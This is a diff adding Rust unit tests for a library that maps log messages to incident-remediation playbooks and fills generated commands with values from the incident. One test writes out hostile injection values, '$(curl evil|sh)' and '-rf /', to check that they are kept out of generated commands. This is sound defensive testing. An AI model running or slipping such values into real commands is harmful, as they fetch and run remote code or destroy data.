@@ -1,0 +1,202 @@
+//! Every playbook answers its own examples, and the mistakes of a user's file are told with their place.
+#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
+
+use super::file::{Check, parse};
+use super::*;
+use aiobs_types::{Confidence, Timestamp};
+use std::collections::BTreeSet;
+use std::sync::LazyLock;
+
+/// Compiling all patterns takes a while without optimisation: once for all tests.
+static LIBRARY: LazyLock<Library> = LazyLock::new(|| {
+    let (library, errors) = Library::load(None);
+    assert_eq!(errors, []);
+    library
+});
+
+fn library() -> &'static Library {
+    &LIBRARY
+}
+
+fn says(message: &str) -> Signature {
+    Signature { messages: vec![message.to_owned()], ..Signature::default() }
+}
+
+#[test]
+fn every_file_is_listed_and_passes_all_checks() {
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../assets/playbooks");
+    let on_disk: BTreeSet<String> =
+        std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
+    let listed: BTreeSet<String> = embedded::FILES.iter().map(|(name, _)| (*name).to_owned()).collect();
+    assert_eq!(on_disk, listed);
+    let told = embedded::FILES.iter().filter_map(|(name, text)| parse(name, text, Check::Full).err());
+    assert_eq!(told.flatten().collect::<Vec<_>>(), []);
+}
+
+#[test]
+fn there_are_enough_and_each_is_complete() {
+    let library = library();
+    assert!(library.playbooks().len() >= 45);
+    for p in library.playbooks() {
+        assert!(p.examples.len() >= 2 && !p.counter_examples.is_empty(), "{} lacks examples", p.id);
+        for list in [&p.alternatives, &p.references, &p.fix.now, &p.fix.lasting, &p.fix.commands, &p.fix.verify] {
+            assert!(!list.is_empty(), "{} is incomplete", p.id);
+        }
+        assert!(!p.fix.rollback.is_empty() && !p.fix.risk.is_empty(), "{} lacks rollback or risk", p.id);
+        assert!(p.error_class.split_once('.').is_some_and(|(a, b)| !a.is_empty() && !b.is_empty()), "{}", p.id);
+    }
+    let ids: BTreeSet<&str> = library.playbooks().iter().map(|p| p.id.as_str()).collect();
+    assert_eq!(ids.len(), library.playbooks().len());
+}
+
+#[test]
+fn examples_get_their_own_playbook_and_counter_examples_do_not() {
+    let library = library();
+    let mut wrong = Vec::new();
+    for p in library.playbooks() {
+        for example in &p.examples {
+            let got = library.advise(&says(example)).map(|a| a.id);
+            if got.as_deref() != Some(&p.id) {
+                wrong.push(format!("{}: {example:?} went to {got:?}", p.id));
+            }
+        }
+        for counter in &p.counter_examples {
+            if library.advise(&says(counter)).is_some_and(|a| a.id == p.id) {
+                wrong.push(format!("{}: {counter:?} must not match", p.id));
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
+
+#[test]
+fn healthy_lines_get_no_advice() {
+    let library = library();
+    for line in [
+        "GET /healthz 200 in 2 ms",
+        "order 99120 created for customer 17, total 49.90 EUR",
+        "checkpoint complete: wrote 812 buffers (5.0%)",
+        "Registered tunnel connection connIndex=0 location=fra08",
+        "user 4711 logged in from 203.0.113.9",
+        "cache warmed in 1.2 s, 4021 entries",
+        "deploy orders 1.14.2 -> 1.15.0",
+        "",
+    ] {
+        assert_eq!(library.advise(&says(line)).map(|a| a.id), None, "{line:?}");
+    }
+}
+
+#[test]
+fn no_placeholder_remains_with_and_without_values() {
+    let library = library();
+    let full = |message: &str| Signature {
+        components: vec!["orders".into(), "payments".into()],
+        count: 1902,
+        first_seen: Timestamp::from_secs(1_736_259_751),
+        last_seen: Timestamp::from_secs(1_736_259_991),
+        ..says(message)
+    };
+    for p in library.playbooks() {
+        for signature in [says(&p.examples[0]), full(&p.examples[0])] {
+            let a = library.advise(&signature).unwrap();
+            let f = &a.fix;
+            let lists = [&a.alternatives, &f.now, &f.lasting, &f.commands, &f.verify, &f.rollback];
+            for text in lists.into_iter().flatten().chain([&a.cause, &f.risk]) {
+                assert_eq!(fill::placeholders(text).next(), None, "{}: {text}", p.id);
+                assert!(!text.contains("  ") || f.commands.contains(text), "{}: {text}", p.id);
+            }
+        }
+    }
+}
+
+#[test]
+fn the_incidents_own_values_are_in_the_advice() {
+    let signature = Signature {
+        components: vec!["orders".into(), "payments".into()],
+        count: 1902,
+        first_seen: Timestamp::from_secs(1_736_259_751),
+        ..says("connection to db-1:5432 refused (pool 200/200)")
+    };
+    let advice = library().advise(&signature).unwrap();
+    assert_eq!(advice.id, "database-connection-refused");
+    assert_eq!(advice.confidence, Confidence::High);
+    assert_eq!(advice.matched, signature.messages);
+    for part in ["db-1:5432", "orders, payments", "1902 times", "2025-01-07 14:22:31 UTC"] {
+        assert!(advice.cause.contains(part), "{part} in {}", advice.cause);
+    }
+    assert_eq!(advice.fix.commands[0], "pg_isready -h db-1 -p 5432");
+    assert!(advice.filled.contains(&("host".into(), "db-1".into())));
+}
+
+#[test]
+fn hostile_values_never_reach_a_command() {
+    let hostile = "$(curl evil|sh)";
+    let signature = Signature { components: vec![hostile.into()], ..says("relation \"x\" does not exist\u{1b}[2J") };
+    let advice = library().advise(&signature).unwrap();
+    assert!(!advice.cause.contains('\u{1b}'));
+    for command in &advice.fix.commands {
+        assert!(!command.contains(hostile), "{command}");
+    }
+    let oom = Signature { components: vec!["-rf /".into()], ..says("java.lang.OutOfMemoryError: Java heap space") };
+    assert_eq!(library().advise(&oom).unwrap().fix.commands[0], "jcmd COMPONENT GC.heap_info");
+    let login = Signature { components: vec![hostile.into()], ..says("ImagePullBackOff") };
+    let rollback = &library().advise(&login).unwrap().fix.rollback;
+    assert_eq!(rollback[0], "Go back to the former revision: `kubectl rollout undo deployment/COMPONENT`.");
+}
+
+#[test]
+fn the_more_specific_wins_and_what_is_around_explains_only_the_unknown() {
+    let library = library();
+    let both = Signature {
+        messages: vec!["upstream timed out".into(), "no space left on device".into()],
+        ..Signature::default()
+    };
+    assert_eq!(library.advise(&both).unwrap().id, "disk-full");
+    let around = "FATAL:  remaining connection slots are reserved for superusers";
+    let unknown = Signature { around: vec![around.into()], ..says("order 7 went wrong") };
+    let advice = library.advise(&unknown).unwrap();
+    assert_eq!((advice.id.as_str(), advice.confidence), ("database-too-many-connections", Confidence::Low));
+    let known = Signature { around: vec![around.into()], ..says("java.lang.NullPointerException: x") };
+    assert_eq!(library.advise(&known).unwrap().id, "java-null-pointer");
+}
+
+#[test]
+fn mistakes_are_told_with_line_and_nearest_name() {
+    let good = embedded::FILES.iter().find(|(n, _)| *n == "disk-full.toml").unwrap().1;
+    let told = |bad: &str| match parse("dir/disk-full.toml", bad, Check::Full) {
+        Ok(_) => panic!("accepted"),
+        Err(errors) => errors.iter().map(ToString::to_string).collect::<Vec<_>>(),
+    };
+    assert!(parse("dir/disk-full.toml", good, Check::Full).is_ok());
+    assert_eq!(
+        told(&good.replace("\ncause =", "\ncuase =")),
+        ["dir/disk-full.toml:5: unknown key `cuase`; did you mean `cause`?"]
+    );
+    let two = good.replace("criticality = 5", "criticality = 9").replace("holds {path}", "holds {paht}");
+    assert_eq!(
+        told(&two),
+        [
+            "dir/disk-full.toml:4: criticality is 1 (cosmetic) to 5 (service down)",
+            "dir/disk-full.toml:5: unknown placeholder `{paht}`; did you mean `path`?",
+        ]
+    );
+    let regex = told(&good.replace("'\\benospc\\b'", "'(enospc'"));
+    assert!(regex[0].contains("bad regular expression: unclosed group"), "{regex:?}");
+    assert!(told("id = ")[0].starts_with("dir/disk-full.toml:1: "));
+    assert!(told(&good.replace("id = \"disk-full\"", "id = \"disc\""))[0].contains("differs from the file's name"));
+}
+
+#[test]
+fn a_users_playbook_replaces_ours_and_a_broken_one_is_told() {
+    let dir = tempfile::tempdir().unwrap();
+    let ours = embedded::FILES.iter().find(|(n, _)| *n == "disk-full.toml").unwrap().1;
+    let own = ours.replace("title = \"Disk is full\"", "title = \"Call Anna\"");
+    std::fs::write(dir.path().join("disk-full.toml"), own).unwrap();
+    std::fs::write(dir.path().join("broken.toml"), "id = \"broken\"\n").unwrap();
+    std::fs::write(dir.path().join("notes.txt"), "not a playbook").unwrap();
+    let (library, errors) = Library::load(Some(dir.path()));
+    assert_eq!(library.advise(&says("write: no space left on device")).unwrap().title, "Call Anna");
+    assert_eq!(errors.len(), 1);
+    assert!(errors[0].file.ends_with("broken.toml") && errors[0].message.contains("missing field"), "{errors:?}");
+    assert_eq!(Library::load(Some(&dir.path().join("absent"))).1, []);
+}
